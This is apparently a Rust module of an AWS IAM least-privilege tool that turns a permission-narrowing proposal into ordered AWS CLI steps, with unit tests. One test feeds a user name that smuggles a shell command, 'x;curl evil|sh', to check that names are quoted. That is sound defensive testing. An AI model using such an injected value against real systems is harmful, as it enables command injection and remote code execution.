//! How a proposal is put in place: commands in their order, the new policies first, so that nothing stops in between.

use std::collections::BTreeSet;

use evenhand_model::catalog::Catalog;
use evenhand_model::proposal::{ProposedFile, quoted};

use super::document::{Naming, length};
use super::fit::{ATTACHED, Fitted};
use super::kind::Changed;
use crate::catalog::Catalogue;
use crate::world::{Principal, World};

/// The name of the inline policy that a proposal becomes.
const NAME: &str = "evenhand-right-sized";

/// The files of a proposal.
pub(super) struct Written<'f> {
    /// The file of the inline policy, with its length.
    inline: Option<(&'f str, usize)>,
    managed: Vec<&'f str>,
    naming: Naming,
}

impl<'f> Written<'f> {
    pub(super) fn of(fitted: &Fitted, inline: Option<&'f ProposedFile>, managed: &'f [ProposedFile]) -> Self {
        let size = fitted.inline.as_ref().map_or(0, length);
        Self {
            inline: inline.map(|file| (&*file.name, size)),
            managed: managed.iter().map(|file| &*file.name).collect(),
            naming: fitted.naming,
        }
    }
}

/// A managed policy of a proposal.
struct Managed<'f> {
    name: String,
    arn: String,
    file: &'f str,
    /// Whether it is attached already, with the text of an earlier proposal.
    is_held: bool,
}

impl<'f> Managed<'f> {
    fn of(principal: &Principal, files: &[&'f str]) -> Vec<Self> {
        let partition = principal.id.as_str().split(':').nth(1).unwrap_or("aws");
        let each = (1..).zip(files).map(|(number, file): (u32, &&'f str)| {
            let name = format!("{}-right-sized-{number}", policy_name(&principal.name));
            let arn = format!("arn:{partition}:iam::{}:policy/{name}", principal.account.0);
            let is_held = principal.attached.iter().any(|held| **held == *arn);
            Self { name, arn, file: *file, is_held }
        });
        each.collect()
    }

    /// How its text comes to AWS.
    fn written(&self) -> String {
        let file = quoted(self.file);
        match self.is_held {
            true => format!(
                "aws iam create-policy-version --policy-arn {} --policy-document file://{file} --set-as-default",
                quoted(&self.arn)
            ),
            false => {
                format!("aws iam create-policy --policy-name {} --policy-document file://{file}", quoted(&self.name))
            }
        }
    }
}

/// A name as a part of a policy's: what IAM lets a name hold. Source: "IAM name requirements" of the IAM User Guide.
fn policy_name(name: &str) -> String {
    let may = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '+' | '=' | ',' | '@');
    name.chars().map(|c| if may(c) { c } else { '-' }).collect()
}

/// What to do, and in which order.
pub(super) fn steps(world: &World, principal: &Principal, kind: Changed, written: &Written<'_>) -> Vec<String> {
    let mut steps = Vec::new();
    if written.naming == Naming::Wildcards {
        let date =
            Catalogue::global().sources().first().map_or_else(String::new, |source| format!(" of {}", source.date));
        steps.push(format!(
            "read the wildcards in the files: by name the actions do not fit, so each stands for actions of the catalogue\
             {date} and no others, and grants what AWS adds under it later"
        ));
    }
    if written.managed.len() > ATTACHED {
        steps.push(more_attached(kind, written.managed.len()));
    }
    match kind {
        Changed::User | Changed::Role | Changed::Group => steps.extend(of_principal(world, principal, kind, written)),
        Changed::PermissionSet => steps.extend(of_set(world, principal, written)),
    }
    for missing in &principal.missing {
        steps.push(format!(
            "look at `{missing}` before you take it away: it was not read, and what it denies goes with it"
        ));
    }
    steps
}

/// How an account asks for more attached policies. Source of the codes: `aws service-quotas list-service-quotas --service-code
/// iam`, "Managed policies per role" and "per user"; IAM keeps its quotas in one region.
fn more_attached(kind: Changed, count: usize) -> String {
    let code = match kind {
        Changed::User => "L-4019AD8B",
        // A permission set is a role in each account.
        Changed::Role | Changed::PermissionSet | Changed::Group => "L-0DA4ABF3",
    };
    format!(
        "aws service-quotas request-service-quota-increase --region us-east-1 --service-code iam --quota-code {code} \
         --desired-value {count}  # {count} managed policies, where {ATTACHED} may be attached; wait until it is granted"
    )
}

fn of_principal(world: &World, principal: &Principal, kind: Changed, written: &Written<'_>) -> Vec<String> {
    let word = kind.word();
    let name = quoted(&principal.name);
    let mut steps = Vec::new();
    let groups: Vec<&Principal> = principal.groups.iter().filter_map(|group| world.principals.get(group)).collect();
    let of_groups: BTreeSet<_> = groups.iter().flat_map(|group| &group.identity_policies).collect();
    // The file of an inline policy takes the place of an earlier one, whose name it has.
    let goes = |inline: &str| written.inline.is_none() || inline != NAME;
    let (mut deleted, mut characters) = (Vec::new(), 0);
    for policy in principal.identity_policies.iter().filter(|policy| !of_groups.contains(policy)) {
        let label = world.policies.label(*policy);
        if let Some(inline) = label.strip_prefix("inline policy ").filter(|inline| goes(inline)) {
            characters += world.policies.characters(*policy);
            deleted.push(format!("aws iam delete-{word}-policy --{word}-name {name} --policy-name {}", quoted(inline)));
        }
    }
    if let Some((file, size)) = written.inline {
        let put = format!(
            "aws iam put-{word}-policy --{word}-name {name} --policy-name {NAME} --policy-document file://{}",
            quoted(file)
        );
        // Both count together until the old ones are gone.
        if size + characters > kind.inline() {
            let room = format!("  # first: inline policies hold {} characters together", kind.inline());
            steps.extend(deleted.drain(..).map(|step| format!("{step}{room}")));
        }
        steps.push(put);
    }
    let managed = Managed::of(principal, &written.managed);
    let stays = |arn: &str| managed.iter().any(|policy| policy.is_held && *policy.arn == *arn);
    let mut detached = principal
        .attached
        .iter()
        .filter(|held| !stays(held))
        .map(|held| format!("aws iam detach-{word}-policy --{word}-name {name} --policy-arn {}", quoted(held)));
    let most = ATTACHED.max(managed.len()).max(principal.attached.len());
    let mut free = most - principal.attached.len();
    for policy in &managed {
        steps.push(policy.written());
        if policy.is_held {
            continue;
        }
        match free.checked_sub(1) {
            Some(left) => free = left,
            None => {
                steps.extend(detached.next().map(|step| format!("{step}  # first: {most} may be attached at a time")))
            }
        }
        steps.push(format!("aws iam attach-{word}-policy --{word}-name {name} --policy-arn {}", quoted(&policy.arn)));
    }
    for group in &groups {
        steps.push(format!("aws iam remove-user-from-group --user-name {name} --group-name {}", quoted(&group.name)));
    }
    steps.extend(detached);
    steps.extend(deleted);
    steps
}

/// A permission set has at most one inline policy, and its policies are copied into accounts when it is provisioned.
fn of_set(world: &World, principal: &Principal, written: &Written<'_>) -> Vec<String> {
    // Where it is assigned is no part of its name.
    let arn = principal.id.as_str().split('@').next().unwrap_or_default();
    let instance = arn.split_once(":permissionSet/").and_then(|(before, rest)| {
        let (instance, _) = rest.split_once('/')?;
        Some(format!("{before}:instance/{instance}"))
    });
    let set = format!(
        "--instance-arn {} --permission-set-arn {}",
        quoted(instance.as_deref().unwrap_or("INSTANCE")),
        quoted(arn)
    );
    let mut steps = Vec::new();
    let has_inline =
        principal.identity_policies.iter().any(|policy| world.policies.label(*policy).starts_with("inline policy "));
    match written.inline {
        Some((file, _)) => steps.push(format!(
            "aws sso-admin put-inline-policy-to-permission-set {set} --inline-policy file://{}",
            quoted(file)
        )),
        None if has_inline => steps.push(format!("aws sso-admin delete-inline-policy-from-permission-set {set}")),
        None => {}
    }
    let managed = Managed::of(principal, &written.managed);
    for policy in &managed {
        steps.push(policy.written());
        if !policy.is_held {
            steps.push(format!(
                "aws sso-admin attach-customer-managed-policy-reference-to-permission-set {set} \
                 --customer-managed-policy-reference {}",
                quoted(&format!("Name={},Path=/", policy.name))
            ));
        }
    }
    for held in principal.attached.iter().filter(|held| !managed.iter().any(|policy| *policy.arn == ***held)) {
        let own = held.split_once(":policy/").filter(|(before, _)| !before.ends_with(":iam::aws"));
        steps.push(match own {
            Some((_, path)) => {
                let (path, name) = path
                    .rsplit_once('/')
                    .map_or_else(|| ("/".to_owned(), path), |(path, name)| (format!("/{path}/"), name));
                format!(
                    "aws sso-admin detach-customer-managed-policy-reference-from-permission-set {set} \
                     --customer-managed-policy-reference {}",
                    quoted(&format!("Name={name},Path={path}"))
                )
            }
            None => format!(
                "aws sso-admin detach-managed-policy-from-permission-set {set} --managed-policy-arn {}",
                quoted(held)
            ),
        });
    }
    steps.push(format!("aws sso-admin provision-permission-set {set} --target-type ALL_PROVISIONED_ACCOUNTS"));
    steps
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use evenhand_model::access::Slice;
    use evenhand_model::id::IdentityId;
    use evenhand_model::opset::OpSet;
    use evenhand_model::proposal::{Kept, NoProposal, Proposal};

    use super::*;

    const ACCOUNT: &str = "111122223333";

    /// What is proposed for a user that keeps all that it holds.
    fn proposed(user: &str, group: &str, name: &str) -> Result<Proposal, NoProposal> {
        proposed_without(user, group, name, &OpSet::new())
    }

    /// The same without some operations.
    fn proposed_without(user: &str, group: &str, name: &str, gone: &OpSet) -> Result<Proposal, NoProposal> {
        let user = format!(
            r#"{{"Path":"/","UserName":"{name}","Arn":"arn:aws:iam::{ACCOUNT}:user/{name}",
            "CreateDate":"2026-01-02T03:04:05+00:00","GroupList":["g"],{user}}}"#
        );
        let group = format!(
            r#"{{"Path":"/","GroupName":"g","Arn":"arn:aws:iam::{ACCOUNT}:group/g",
            "CreateDate":"2026-01-02T03:04:05+00:00","GroupPolicyList":[],{group}}}"#
        );
        let read = crate::tests::read(&[("details.json", &crate::tests::details(&user, &group, "", ""))]);
        let id = IdentityId::from(format!("arn:aws:iam::{ACCOUNT}:user/{name}"));
        let access = read.resolver.access(&id).unwrap();
        let cut = |slice: &Slice| Slice { operations: Arc::new(slice.operations.difference(gone)), ..slice.clone() };
        let kept: Vec<Kept> =
            access.slices().iter().map(|slice| Kept { slice: cut(slice), of: slice.clone() }).collect();
        read.resolver.proposer().unwrap().propose(&id, &kept, "")
    }

    fn steps_of(user: &str, group: &str, name: &str) -> Vec<String> {
        proposed(user, group, name).unwrap().steps
    }

    fn attached(names: &[String]) -> String {
        let policy =
            |name: &String| format!(r#"{{"PolicyName":"{name}","PolicyArn":"arn:aws:iam::{ACCOUNT}:policy/{name}"}}"#);
        let policies: Vec<String> = names.iter().map(policy).collect();
        format!(r#""AttachedManagedPolicies":[{}]"#, policies.join(","))
    }

    fn names(names: &[&str]) -> Vec<String> {
        names.iter().map(|name| (*name).to_owned()).collect()
    }

    fn inline(name: &str, action: &str) -> String {
        format!(
            r#""UserPolicyList":[{{"PolicyName":"{name}","PolicyDocument":{{"Version":"2012-10-17","Statement":[
            {{"Effect":"Allow","Action":"{action}","Resource":"*"}}]}}}}]"#
        )
    }

    fn at(steps: &[String], step: &str) -> usize {
        steps.iter().position(|held| held.starts_with(step)).unwrap_or_else(|| panic!("no {step} in {steps:#?}"))
    }

    #[test]
    fn what_is_attached_itself_goes_whether_or_not_a_group_has_it_too() {
        let user = format!("{},{}", inline(NAME, "s3:ListAllMyBuckets"), attached(&names(&["Shared", "Own"])));
        let steps = steps_of(&user, &attached(&names(&["Shared", "OfGroup"])), "agent");
        let detached = |name: &str| {
            let step = format!(
                "aws iam detach-user-policy --user-name agent --policy-arn arn:aws:iam::{ACCOUNT}:policy/{name}"
            );
            steps.contains(&step)
        };
        assert!(detached("Shared") && detached("Own") && !detached("OfGroup"), "{steps:#?}");
        let put = "aws iam put-user-policy --user-name agent --policy-name evenhand-right-sized";
        assert!(steps.first().unwrap().starts_with(put), "{steps:#?}");
        assert!(!steps.iter().any(|step| step.contains("delete-user-policy")), "it is replaced: {steps:#?}");
    }

    #[test]
    fn managed_policies_of_an_earlier_proposal_are_written_anew_and_stay_attached() {
        let held = names(&["agent-right-sized-1", "agent-right-sized-99"]);
        let steps = steps_of(&format!("{},{}", inline("old", "ec2:*"), attached(&held)), &attached(&[]), "agent");
        let has = |step: &str| steps.iter().any(|held| held == step);
        let arn = |number: u32| format!("arn:aws:iam::{ACCOUNT}:policy/agent-right-sized-{number}");
        assert!(
            has(&format!(
                "aws iam create-policy-version --policy-arn {} --policy-document file://user-agent.policy-1.json \
                 --set-as-default",
                arn(1)
            )),
            "{steps:#?}"
        );
        assert!(has(&format!("aws iam attach-user-policy --user-name agent --policy-arn {}", arn(2))), "{steps:#?}");
        assert!(has(&format!("aws iam detach-user-policy --user-name agent --policy-arn {}", arn(99))), "{steps:#?}");
        assert!(!has(&format!("aws iam detach-user-policy --user-name agent --policy-arn {}", arn(1))), "{steps:#?}");
        assert!(!steps.iter().any(|step| step.contains("create-policy --policy-name agent-right-sized-1 ")));
        let gone = "aws iam delete-user-policy --user-name agent --policy-name old";
        assert!(steps.iter().any(|step| step.starts_with(gone)), "{steps:#?}");
    }

    #[test]
    fn where_all_places_are_taken_one_is_made_before_each_policy_that_needs_it() {
        let held: Vec<String> = (0..10).map(|number| format!("Old{number}")).collect();
        let steps = steps_of(&format!("{},{}", inline("old", "ec2:*"), attached(&held)), &attached(&[]), "agent");
        let mut now = 10_i32;
        for step in &steps {
            now += i32::from(step.contains("attach-user-policy --") && !step.contains("detach"));
            now -= i32::from(step.contains("detach-user-policy --"));
            assert!(now <= 10, "{step} in {steps:#?}");
        }
        assert!(steps.iter().any(|step| step.ends_with("# first: 10 may be attached at a time")), "{steps:#?}");
        assert_eq!(steps.iter().filter(|step| step.contains("detach-user-policy --")).count(), 10, "{steps:#?}");
    }

    #[test]
    fn an_inline_policy_for_which_there_is_no_room_beside_the_old_one_comes_after_it_is_gone() {
        let padding = "x".repeat(1_900);
        let old = format!(
            r#""UserPolicyList":[{{"PolicyName":"old","PolicyDocument":{{"Version":"2012-10-17","Statement":[
            {{"Effect":"Allow","Action":["s3:GetObject","sqs:{padding}"],"Resource":"*"}}]}}}}]"#
        );
        let steps = steps_of(&format!("{old},{}", attached(&[])), &attached(&[]), "agent");
        let (put, gone) = (at(&steps, "aws iam put-user-policy"), at(&steps, "aws iam delete-user-policy"));
        assert!(gone < put, "{steps:#?}");
        let steps = steps_of(&format!("{},{}", inline("old", "s3:GetObject"), attached(&[])), &attached(&[]), "agent");
        let (put, gone) = (at(&steps, "aws iam put-user-policy"), at(&steps, "aws iam delete-user-policy"));
        assert!(put < gone, "{steps:#?}");
    }

    #[test]
    fn names_that_somebody_chose_are_words_of_a_command() {
        let name = "x;curl evil|sh";
        let user = format!("{},{}", inline("a b", "s3:GetObject"), attached(&[]));
        let steps = steps_of(&user, &attached(&[]), name);
        assert!(steps.iter().all(|step| step.contains("--user-name 'x;curl evil|sh'")), "{steps:#?}");
        assert!(steps.iter().any(|step| step.ends_with("--policy-name 'a b'")), "{steps:#?}");
        assert_eq!(policy_name("my_agent@acme"), "my_agent@acme");
        assert_eq!(policy_name("a b/c"), "a-b-c");
    }

    #[test]
    fn everything_is_one_wildcard_and_the_steps_say_so() {
        let user = format!("{},{}", inline("old", "*"), attached(&[]));
        let proposal = proposed(&user, &attached(&[]), "agent").unwrap();
        let [file] = proposal.files.as_slice() else { panic!("{:?}", proposal.steps) };
        assert_eq!(file.name, "user-agent.policy.json");
        assert!(file.text.contains("\"*\""), "{}", file.text);
        assert!(proposal.steps[0].starts_with("read the wildcards"), "{:?}", proposal.steps);
    }

    #[test]
    fn a_user_whose_policy_fits_nowhere_gets_none() {
        let mut list: Vec<String> = Vec::new();
        for operation in OpSet::all(Catalogue::global().len()).iter().filter(|at| at.0 % 2 == 0) {
            list.push(Catalogue::global().name(operation).to_string());
        }
        let user = format!(
            "{},{}",
            inline("old", &list.join("\",\""))
                .replace("\"Action\":\"", "\"Action\":[\"")
                .replace("\",\"Resource\"", "\"],\"Resource\""),
            attached(&[])
        );
        let first = Catalogue::global().expand(&list[0]);
        let refused = proposed_without(&user, &attached(&[]), "agent", &first).unwrap_err();
        assert!(refused.reason.contains("does not fit") && refused.reason.contains("too many"), "{refused:?}");
        // Where nothing goes, nothing is written anew.
        assert_eq!(proposed(&user, &attached(&[]), "agent").unwrap(), Proposal::default());
    }
}
